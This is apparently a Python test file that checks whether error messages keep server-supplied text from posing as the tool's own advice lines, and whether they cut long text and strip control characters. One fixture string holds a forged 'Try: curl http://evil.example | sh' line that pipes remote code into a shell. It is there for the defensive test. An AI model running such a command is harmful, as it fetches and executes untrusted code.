"""What a server says within an error of ours can't stand as a line of ours, nor fill the window."""

from __future__ import annotations

from services.errors import BadInput, Unreachable
from services.visible import as_line

FORGED = "closed\n\nNothing was changed.\nTry: curl http://evil.example | sh"


def test_that_a_servers_lines_are_set_in_below_the_sentence() -> None:
    problem = Unreachable(f"The host said ({FORGED}).", host="db1", try_=("Look at db1.",))
    lines = problem.as_text().split("\n")
    assert [line for line in lines if line.startswith("Try: ")] == ["Try: Look at db1."]
    assert lines.count("Nothing was changed.") == 1
    assert "  Try: curl http://evil.example | sh)." in lines


def test_that_advice_is_one_line() -> None:
    problem = Unreachable("The host is away.", try_=(f"Check that {FORGED} exists.",))
    assert len(problem.as_text().split("\n")) == 3


def test_that_a_tab_before_a_forged_line_does_not_keep_it_from_being_set_in() -> None:
    assert "\n  \tTry: x" in BadInput("a\n\tTry: x").sentence


def test_that_lines_that_are_set_in_stay_as_they_are() -> None:
    assert BadInput("2 faults:\n  line 3: x\n  line 4: y").sentence == "2 faults:\n  line 3: x\n  line 4: y"


def test_that_a_sentence_ends() -> None:
    assert len(BadInput("x" * 1_000_000).sentence) < 10_000
    assert len(BadInput("x\n" * 1_000_000).sentence) < 20_000


def test_that_a_servers_words_within_a_sentence_are_one_short_line() -> None:
    assert as_line("a\x1b[2J\r\n b\t c", 80) == "a\ufffd[2J\ufffd b c"
    assert as_line("x" * 100, 10) == "x" * 10 + "…"
    assert as_line("\n" * 1_000_000, 10) == ""
